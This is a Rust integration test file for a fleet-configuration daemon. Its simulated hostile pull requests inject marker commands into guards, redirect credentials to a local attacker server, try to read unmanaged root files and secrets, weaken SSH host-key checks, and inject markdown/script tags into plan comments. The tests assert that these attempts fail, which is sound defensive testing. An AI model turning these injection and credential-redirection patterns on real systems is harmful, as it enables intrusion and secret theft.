//! Hostile pull requests. The daemon follows `main` and plans proposals; each
//! PR below tries one way through the trust boundary (running code, reading
//! what main does not manage, redirecting credentials, loosening SSH), and
//! the tests show that nothing happened: no marker on the host or the
//! controller, no request at the attacker's server, nothing private in the
//! notes, comments or logs — while the plans stay useful.

use std::sync::{Arc, Mutex};
use std::time::Duration;

use axum::Router;
use axum::body::Bytes;
use axum::http::{HeaderMap, Method, Uri};

use crate::forge::{fake_github, open_pr};
use crate::support::daemon::{Daemon, free_port};
use crate::support::fleet::{FleetRepo, age_identity, text};
use crate::support::testbed::Testbed;
use crate::support::{TempDir, git};

/// Everything that reached the attacker's server: method, path, headers, body.
type Seen = Arc<Mutex<Vec<String>>>;

/// A server a PR author controls: records every request, answers `{}`.
fn attacker() -> (u16, Seen) {
    let seen: Seen = Arc::default();
    let s = seen.clone();
    let app = Router::new().fallback(move |m: Method, u: Uri, h: HeaderMap, b: Bytes| {
        let s = s.clone();
        async move {
            s.lock()
                .unwrap()
                .push(format!("{m} {u} {h:?} {}", String::from_utf8_lossy(&b)));
            "{}"
        }
    });
    let l = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = l.local_addr().unwrap().port();
    crate::support::serve_in_thread(l, app);
    (port, seen)
}

const BASE_ROLE: &str = "files:\n  - {path: /etc/tk-app, content: \"one\\n\"}\ncommands:\n  - {name: seeded, run: \"true\", unless: \"test -e /etc/tk-app\"}\n";
const PRIVATE: &str = "TOP-SECRET-7731";
const PRIVATE_KEY_LINE: &str =
    "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHostileTestOnlyKeyThatMustNeverLeak0000 private-9911";
const DB_PASSWORD: &str = "db-password-5532-long";
const WEBHOOK_SECRET: &str = "webhook-secret-8821-long";

fn forge_yaml(url: &str, extra: &str) -> String {
    format!(
        "fleet: test\n{extra}status:\n  forge:\n    kind: github\n    url: {url}\n    repo: acme/fleet\n"
    )
}

/// A fresh public key (ssh-keygen), for a user a PR adds.
fn public_key(dir: &TempDir) -> String {
    let path = dir.path().join("eve");
    let out = std::process::Command::new("ssh-keygen")
        .args(["-q", "-t", "ed25519", "-N", "", "-C", "eve", "-f"])
        .arg(&path)
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", text(&out));
    std::fs::read_to_string(path.with_extension("pub"))
        .unwrap()
        .trim()
        .to_string()
}

fn note(repo: &FleetRepo, commit: &str) -> String {
    git(&repo.path, &["notes", "--ref=tidekeeper", "show", commit])
}

#[test]
fn hostile_pull_requests_run_nothing_read_nothing_and_send_no_credential() {
    let bed = Testbed::start(1);
    bed.ssh_ok(
        0,
        &format!(
            "printf '{PRIVATE}\\n' > /root/private.txt && mkdir -p /root/.ssh && printf '%s\\n' '{PRIVATE_KEY_LINE}' >> /root/.ssh/authorized_keys"
        ),
    );
    let forge_port = free_port();
    let fake = fake_github(forge_port);
    let (evil_port, evil) = attacker();
    let evil_url = format!("http://127.0.0.1:{evil_port}");
    let controller = TempDir::new("hostile-controller");
    let ctrl = controller.path().display().to_string();

    let repo = FleetRepo::minimal(&bed, &[("app", BASE_ROLE)]);
    fake.lock().unwrap().pulls_from(&repo.path);
    let identity = age_identity();
    repo.encrypt_secret(&identity, "db", DB_PASSWORD);
    repo.write(
        "tidekeeper.yaml",
        &forge_yaml(&format!("http://127.0.0.1:{forge_port}"), ""),
    );
    repo.commit("forge and a secret");
    let main = git(&repo.path, &["rev-parse", "HEAD"]);

    // PR 1: code in guards, a validate command, and a local host that would
    // run on the daemon's own machine.
    let pr_code = open_pr(&repo, 1, |r| {
        r.write(
            "roles/app.yaml",
            "files:\n  - {path: /etc/tk-app, content: \"two\\n\", validate: \"touch /tmp/tk-pwned-validate %s\"}\n\
             commands:\n  - {name: seeded, run: \"true\", unless: \"test -e /etc/tk-app\"}\n  \
             - {name: g1, run: \"true\", unless: \"touch /tmp/tk-pwned-unless\"}\n  \
             - {name: g2, run: \"true\", onlyif: \"touch /tmp/tk-pwned-onlyif\"}\n",
        );
        r.write(
            "hosts/evil.yaml",
            &format!("provider: local\nroot: {ctrl}/root\nroles: [evil]\n"),
        );
        r.write(
            "roles/evil.yaml",
            &format!(
                "commands:\n  - {{name: x, run: \"touch {ctrl}/pwned-run\", unless: \"touch {ctrl}/pwned-local\"}}\n"
            ),
        );
    });
    // PR 2: the provider and the forge pointed at the attacker, with the
    // daemon's webhook secret as their token.
    let pr_creds = open_pr(&repo, 2, |r| {
        r.write(
            "tidekeeper.yaml",
            &forge_yaml(
                &evil_url,
                &format!(
                    "providers:\n  hetzner:\n    endpoint: {evil_url}/v1\n    token_env: TIDEKEEPER_WEBHOOK_SECRET\n"
                ),
            )
            .replace(
                "    repo: acme/fleet\n",
                "    repo: acme/fleet\n    token_env: TIDEKEEPER_WEBHOOK_SECRET\n",
            ),
        );
        r.write(
            "hosts/cloudy.yaml",
            "provider: hetzner\nserver: {type: cx22, image: debian-12, location: fsn1}\nroles: [app]\n",
        );
    });
    // PR 3: files main does not manage (one directly, one through a user's
    // home), and a secret.
    let eve = public_key(&controller);
    let pr_read = open_pr(&repo, 3, |r| {
        r.write(
            "roles/app.yaml",
            &format!(
                "{BASE_ROLE}\
                 users:\n  - name: eve\n    home: /root\n    authorized_keys: [\"{eve}\"]\n"
            )
            .replace(
                "files:\n",
                "files:\n  - {path: /root/private.txt, content: \"guess\\n\"}\n  - {path: /etc/tk-db, secret: db}\n",
            ),
        );
    });
    // PR 4: log in as someone else, on another port, trusting any host key.
    let pr_ssh = open_pr(&repo, 4, |r| {
        r.write(
            "tidekeeper.yaml",
            &forge_yaml(
                &format!("http://127.0.0.1:{forge_port}"),
                "defaults:\n  ssh:\n    user: eve\n    port: 2222\n    trust_on_first_use: true\n",
            ),
        );
        r.write("known_hosts", "");
    });

    let env = [
        ("GITHUB_TOKEN", "t0k"),
        ("TIDEKEEPER_WEBHOOK_SECRET", WEBHOOK_SECRET),
        ("TIDEKEEPER_AGE_IDENTITY", identity.as_str()),
    ];
    let d = Daemon::start_env(
        &repo.path,
        &repo.key,
        &["--poll", "1s", "--drift", "600s"],
        &env,
    );
    d.wait_applied(&main, Duration::from_secs(30));
    d.wait_for("the four PRs reported", Duration::from_secs(60), |_| {
        fake.lock().unwrap().comments.len() == 4
    });
    let comment = |pr: u64| -> String {
        let f = fake.lock().unwrap();
        f.comments.iter().find(|c| c.0 == pr).unwrap().2.clone()
    };

    // Nothing of any PR ran, on the host or on the controller.
    let markers = bed.ssh(
        0,
        "ls /tmp/tk-pwned-unless /tmp/tk-pwned-onlyif /tmp/tk-pwned-validate",
    );
    assert!(!markers.status.success(), "{}", text(&markers));
    for m in ["pwned-local", "pwned-run", "root"] {
        assert!(!controller.path().join(m).exists(), "{m} on the controller");
    }
    let c1 = comment(1);
    assert!(c1.contains("not evaluated for proposals"), "{c1}");
    assert!(
        c1.contains("evil") && c1.contains("configured after merge"),
        "{c1}"
    );
    assert!(
        !c1.contains("command seeded"),
        "a guard exactly as on main is evaluated (it says skip): {c1}"
    );
    assert!(
        crate::support::diff_line(&c1, "+", "two"),
        "managed files keep their diffs: {c1}"
    );

    // No request reached the attacker; the base's forge got every report with its token.
    assert!(
        evil.lock().unwrap().is_empty(),
        "{:?}",
        evil.lock().unwrap()
    );
    assert_eq!(fake.lock().unwrap().bad_auth, 0);
    let c2 = comment(2);
    assert!(
        c2.contains("Hetzner provider settings") && c2.contains("forge settings"),
        "the comment says what takes effect after merge: {c2}"
    );

    // Nothing main does not manage was read.
    let n3 = note(&repo, &pr_read);
    let c3 = comment(3);
    for text in [&n3, &c3] {
        assert!(!text.contains(PRIVATE), "{text}");
        assert!(
            !text.contains("VE9QLVNFQ1JFVC03NzMx"),
            "base64 of it: {text}"
        );
        assert!(!text.contains("private-9911"), "{text}");
        assert!(!text.contains(DB_PASSWORD), "{text}");
        assert!(
            text.contains("current content not shown (not managed on the base branch)"),
            "{text}"
        );
    }
    assert!(n3.contains("/etc/tk-db"), "the secret file is named: {n3}");
    assert!(n3.contains("never decrypted for proposals"), "{n3}");

    // SSH settings are main's: the host was still planned, the comment says why.
    let c4 = comment(4);
    assert!(c4.contains("SSH settings"), "{c4}");
    assert!(c4.contains("known_hosts"), "{c4}");
    assert!(
        !c4.contains(": error"),
        "planned with main's SSH settings: {c4}"
    );

    for (pr, sha) in [(1, &pr_code), (2, &pr_creds), (4, &pr_ssh)] {
        assert!(
            note(&repo, sha).contains(&format!("refs/pull/{pr}/head")),
            "PR {pr} noted"
        );
    }
    let log = d.log();
    for secret in [WEBHOOK_SECRET, DB_PASSWORD, PRIVATE] {
        assert!(!log.contains(secret), "{secret} in the log");
    }
    let st = d.get("/status").1;
    assert!(!st.contains(PRIVATE) && !st.contains(DB_PASSWORD), "{st}");
    assert_eq!(
        bed.ssh_ok(0, "cat /etc/tk-app /root/private.txt"),
        format!("one\n{PRIVATE}\n"),
        "no PR was applied"
    );

    // Planned once per head: a restarted daemon plans none of them again.
    let requests = fake.lock().unwrap().requests.len();
    let state = d.stop_keep_state();
    let d = Daemon::start_full(
        &repo.path,
        &repo.key,
        &["--poll", "1s", "--drift", "600s"],
        state,
        &env,
    );
    d.wait_fetches(3, Duration::from_secs(30));
    assert!(!d.log().contains("proposal planned"), "{}", d.log());
    assert_eq!(fake.lock().unwrap().requests.len(), requests);

    // A deleted PR ref is forgotten: the record in the state dir drops it.
    git(&repo.path, &["update-ref", "-d", "refs/pull/4/head"]);
    let record = d.state.path().join("state/proposals.json");
    d.wait_for("the deleted PR pruned", Duration::from_secs(30), |_| {
        std::fs::read_to_string(&record).is_ok_and(|r| !r.contains("refs/pull/4/head"))
    });
    let r = std::fs::read_to_string(&record).unwrap();
    assert!(r.contains("refs/pull/3/head"), "{r}");
}

#[test]
fn the_cli_plans_an_untrusted_branch_under_the_base_branch() {
    let bed = Testbed::start(1);
    bed.ssh_ok(0, &format!("printf '{PRIVATE}\\n' > /root/private.txt"));
    let repo = FleetRepo::minimal(&bed, &[("app", BASE_ROLE)]);
    let controller = TempDir::new("hostile-cli");
    let ctrl = controller.path().display().to_string();
    assert!(repo.tk(&["apply", "--yes"]).status.success());
    git(&repo.path, &["checkout", "-q", "-b", "pr"]);
    repo.write(
        "roles/app.yaml",
        "files:\n  - {path: /etc/tk-app, content: \"two\\n\"}\n  - {path: /root/private.txt, content: \"guess\\n\"}\n\
         commands:\n  - {name: g1, run: \"true\", unless: \"touch /tmp/tk-pwned-cli\"}\n",
    );
    repo.write(
        "hosts/evil.yaml",
        &format!("provider: local\nroot: {ctrl}/root\nroles: [evil]\n"),
    );
    repo.write(
        "roles/evil.yaml",
        &format!("commands:\n  - {{name: x, run: \"true\", unless: \"touch {ctrl}/pwned\"}}\n"),
    );
    repo.commit("untrusted");
    git(&repo.path, &["checkout", "-q", "main"]);

    let out = repo.tk(&["plan", "--ref", "pr", "--untrusted", "--base", "main"]);
    let t = text(&out);
    assert_eq!(out.status.code(), Some(0), "{t}");
    assert!(t.contains("+two"), "{t}");
    assert!(t.contains("not evaluated for proposals"), "{t}");
    assert!(t.contains("current content not shown"), "{t}");
    assert!(t.contains("configured after merge"), "{t}");
    assert!(!t.contains(PRIVATE), "{t}");
    assert!(!controller.path().join("pwned").exists());
    assert!(!bed.ssh(0, "test -e /tmp/tk-pwned-cli").status.success());

    // The same ref planned as trusted (the person at the CLI says so) runs its guard.
    let out = repo.tk(&["plan", "--ref", "pr", "--host", &bed.host(0).name]);
    assert!(out.status.success(), "{}", text(&out));
    assert!(bed.ssh(0, "test -e /tmp/tk-pwned-cli").status.success());
}

/// Read from `s` until the daemon closes it (EOF or reset): whether it did
/// within `within`.
fn closed_within(s: &mut std::net::TcpStream, within: Duration) -> bool {
    use std::io::Read;
    let deadline = std::time::Instant::now() + within;
    let mut buf = [0u8; 4096];
    while std::time::Instant::now() < deadline {
        s.set_read_timeout(Some(Duration::from_millis(200)))
            .unwrap();
        match s.read(&mut buf) {
            Ok(0) => return true,
            Ok(_) => {}
            Err(e)
                if matches!(
                    e.kind(),
                    std::io::ErrorKind::WouldBlock | std::io::ErrorKind::TimedOut
                ) => {}
            Err(_) => return true,
        }
    }
    false
}

#[test]
fn half_open_idle_and_oversized_requests_do_not_wear_the_daemon_down() {
    use std::io::{Read, Write};
    use std::net::TcpStream;
    let bed = Testbed::start(1);
    let repo = FleetRepo::minimal(&bed, &[("app", BASE_ROLE)]);
    let d = Daemon::start_env(
        &repo.path,
        &repo.key,
        &["--poll", "1s", "--drift", "600s"],
        &[
            ("TIDEKEEPER_WEBHOOK_SECRET", WEBHOOK_SECRET),
            // Short, so the test is quick: the default is 10 s and 256.
            ("TIDEKEEPER_HTTP_HEADER_TIMEOUT_MS", "500"),
            ("TIDEKEEPER_HTTP_MAX_CONNECTIONS", "16"),
        ],
    );
    let addr = ("127.0.0.1", d.port);

    // Half a header, then nothing: the daemon hangs up after the timeout,
    // and answers /healthz meanwhile.
    let mut half = TcpStream::connect(addr).unwrap();
    half.write_all(b"GET /healthz HTTP/1.1\r\nHost: loc")
        .unwrap();
    assert_eq!(d.get("/healthz").0, 200);
    assert!(
        closed_within(&mut half, Duration::from_secs(20)),
        "a half-open connection is closed"
    );

    // Far more idle connections than the cap: each is closed in its turn,
    // and the daemon keeps answering.
    let mut idle: Vec<TcpStream> = (0..80).map(|_| TcpStream::connect(addr).unwrap()).collect();
    d.wait_for(
        "/healthz past the idle connections",
        Duration::from_secs(30),
        |d| d.get("/healthz").0 == 200,
    );
    for (i, s) in idle.iter_mut().enumerate() {
        assert!(
            closed_within(s, Duration::from_secs(30)),
            "idle connection {i} closed"
        );
    }
    assert_eq!(d.get("/healthz").0, 200);

    // A webhook body over 1 MiB is refused before it is looked at.
    let body = vec![b'{'; 1024 * 1024 + 512 * 1024];
    let mut s = TcpStream::connect(addr).unwrap();
    let mut reader = s.try_clone().unwrap();
    let head = format!(
        "POST /hooks/git HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: {}\r\nX-Hub-Signature-256: sha256=00\r\nConnection: close\r\n\r\n",
        body.len()
    );
    let writer = std::thread::spawn(move || {
        let _ = s
            .write_all(head.as_bytes())
            .and_then(|_| s.write_all(&body));
    });
    reader
        .set_read_timeout(Some(Duration::from_secs(20)))
        .unwrap();
    let mut got = Vec::new();
    let mut buf = [0u8; 1024];
    while let Ok(n) = reader.read(&mut buf) {
        if n == 0 {
            break;
        }
        got.extend_from_slice(&buf[..n]);
        if got.windows(4).any(|w| w == b"\r\n\r\n") {
            break;
        }
    }
    let _ = writer.join();
    let (code, _) = crate::support::http_response(&got);
    assert_eq!(code, 413, "{}", String::from_utf8_lossy(&got));
    // A webhook of ordinary size still gets its answer (unsigned: 401).
    assert_eq!(d.request("POST", "/hooks/git", &[], b"{}").0, 401);
}

#[test]
fn an_empty_webhook_secret_or_api_token_is_refused_at_start() {
    let state = TempDir::new("empty-secret");
    for (var, value) in [
        ("TIDEKEEPER_WEBHOOK_SECRET", ""),
        ("TIDEKEEPER_WEBHOOK_SECRET", "   "),
        ("TIDEKEEPER_API_TOKEN", ""),
        ("TIDEKEEPER_API_TOKEN", " \t"),
    ] {
        let log = state.path().join("log");
        let mut child = crate::support::tidekeeper()
            .args([
                "run",
                "--repo",
                "/nonexistent/tk-repo",
                "--listen",
                "127.0.0.1:0",
            ])
            .arg("--state-dir")
            .arg(state.path().join("state"))
            .env_remove("TIDEKEEPER_WEBHOOK_SECRET")
            .env_remove("TIDEKEEPER_API_TOKEN")
            .env(var, value)
            .stdout(std::process::Stdio::null())
            .stderr(std::fs::File::create(&log).unwrap())
            .spawn()
            .unwrap();
        let deadline = std::time::Instant::now() + Duration::from_secs(20);
        let status = loop {
            if let Some(s) = child.try_wait().unwrap() {
                break Some(s);
            }
            if std::time::Instant::now() > deadline {
                let _ = child.kill();
                let _ = child.wait();
                break None;
            }
            std::thread::sleep(Duration::from_millis(50));
        };
        let t = std::fs::read_to_string(&log).unwrap_or_default();
        assert!(
            status.is_some_and(|s| !s.success()),
            "{var}={value:?} accepted: the daemon started: {t}"
        );
        assert!(
            t.contains(&format!("{var} (--")) && t.contains("is empty"),
            "{var}={value:?}: {t}"
        );
    }
}

/// Commit what is staged with author and committer dates of `date`.
fn commit_dated(repo: &FleetRepo, msg: &str, date: &str) {
    git(&repo.path, &["add", "-A"]);
    let out = std::process::Command::new("git")
        .current_dir(&repo.path)
        .args(["-c", "user.name=eve", "-c", "user.email=eve@localhost"])
        .args(["-c", "commit.gpgsign=false", "commit", "-q", "-m", msg])
        .env("GIT_AUTHOR_DATE", date)
        .env("GIT_COMMITTER_DATE", date)
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", text(&out));
}

/// The lines of markdown `md` outside its code blocks (a block closes only
/// on a line of at least as many backticks as opened it).
fn outside_code(md: &str) -> String {
    let mut out = Vec::new();
    let mut open: Option<usize> = None;
    for l in md.lines() {
        let t = l.trim_start();
        let ticks = t.chars().take_while(|c| *c == '`').count();
        match open {
            None if ticks >= 3 => open = Some(ticks),
            None => out.push(l),
            Some(n) if ticks >= n && t[ticks..].trim().is_empty() => open = None,
            Some(_) => {}
        }
    }
    assert!(open.is_none(), "a code block left open: {md}");
    out.join("\n")
}

#[test]
fn a_pr_cannot_forge_freeze_or_break_out_of_its_plan_comment() {
    let bed = Testbed::start(1);
    let forge_port = free_port();
    let fake = fake_github(forge_port);
    let repo = FleetRepo::minimal(&bed, &[("app", BASE_ROLE)]);
    fake.lock().unwrap().pulls_from(&repo.path);
    repo.write(
        "tidekeeper.yaml",
        &forge_yaml(&format!("http://127.0.0.1:{forge_port}"), ""),
    );
    repo.commit("forge");
    let main = git(&repo.path, &["rev-parse", "HEAD"]);
    let marker = tidekeeper::report::marker("test");
    // The PR's author speaks first, with tidekeeper's marker.
    let forged =
        format!("{marker}\n### tidekeeper plan\n\n**Plan: no changes.** Policies: all passed.\n");
    {
        let mut f = fake.lock().unwrap();
        f.comments.push((7, 1, forged.clone()));
        f.authors.insert(1, "mallory".into());
    }
    // A head dated 2099, whose file, path and policy message try to close
    // the code block and hide the rest of the comment.
    let evil = r#"```\n<!-- hide the rest\n<script>alert(1)</script> & "#;
    git(&repo.path, &["checkout", "-q", "-b", "pr-7"]);
    repo.write(
        "roles/app.yaml",
        &format!("files:\n  - {{path: /etc/tk-app, content: \"{evil}plan-of-2099\\n\"}}\n"),
    );
    repo.write(
        "policies/evil.rego",
        "package evil\n\nimport rego.v1\n\ndeny contains \"```\\n<!-- hide <script>x</script> & more\" if { true }\n",
    );
    commit_dated(&repo, "from the future", "2099-01-01T00:00:00Z");
    let first = git(&repo.path, &["rev-parse", "HEAD"]);
    git(&repo.path, &["update-ref", "refs/pull/7/head", &first]);
    git(&repo.path, &["checkout", "-q", "main"]);

    let d = Daemon::start_env(
        &repo.path,
        &repo.key,
        &["--poll", "1s", "--drift", "600s"],
        &[("GITHUB_TOKEN", "t0k")],
    );
    d.wait_applied(&main, Duration::from_secs(30));
    let bots = |f: &crate::forge::Shared| -> Vec<String> {
        let f = f.lock().unwrap();
        f.comments
            .iter()
            .filter(|c| {
                c.0 == 7 && f.authors.get(&c.1).map(String::as_str) == Some(crate::forge::BOT)
            })
            .map(|c| c.2.clone())
            .collect()
    };
    d.wait_for("the 2099 head's plan", Duration::from_secs(60), |_| {
        bots(&fake).iter().any(|c| c.contains("plan-of-2099"))
    });
    let c = bots(&fake).concat();
    assert_eq!(
        fake.lock().unwrap().comments[0].2,
        forged,
        "the author's comment is left alone"
    );
    let outside = outside_code(&c);
    assert_eq!(outside.matches("<!--").count(), 1, "only the marker: {c}");
    assert!(!outside.contains("<script>"), "{c}");
    assert!(
        outside.contains("&lt;!-- hide &lt;script&gt;x&lt;/script&gt; &amp; more"),
        "the policy's message, escaped: {c}"
    );
    assert!(
        c.contains("<!-- hide the rest"),
        "the diff is shown, in its block: {c}"
    );

    // A later push, dated today, replaces the plan of the head from 2099.
    git(&repo.path, &["checkout", "-q", "pr-7"]);
    repo.write(
        "roles/app.yaml",
        "files:\n  - {path: /etc/tk-app, content: \"cron-backdoor-v2\\n\"}\n",
    );
    commit_dated(&repo, "the real change", "2026-11-30T12:00:00Z");
    let second = git(&repo.path, &["rev-parse", "HEAD"]);
    git(&repo.path, &["update-ref", "refs/pull/7/head", &second]);
    git(&repo.path, &["checkout", "-q", "main"]);
    d.wait_for("the newer head's plan", Duration::from_secs(60), |_| {
        bots(&fake).iter().any(|c| c.contains("cron-backdoor-v2"))
    });
    let now = bots(&fake);
    assert_eq!(now.len(), 1, "{now:?}");
    assert!(
        now[0].contains(&second[..12]) && !now[0].contains("plan-of-2099"),
        "{}",
        now[0]
    );
    assert_eq!(fake.lock().unwrap().comments[0].2, forged);
    let status = fake
        .lock()
        .unwrap()
        .requests
        .iter()
        .find(|r| r.1 == format!("statuses/{first}"))
        .map(|r| r.2["description"].to_string())
        .unwrap_or_default();
    assert!(!status.contains("\\n"), "{status}");
}
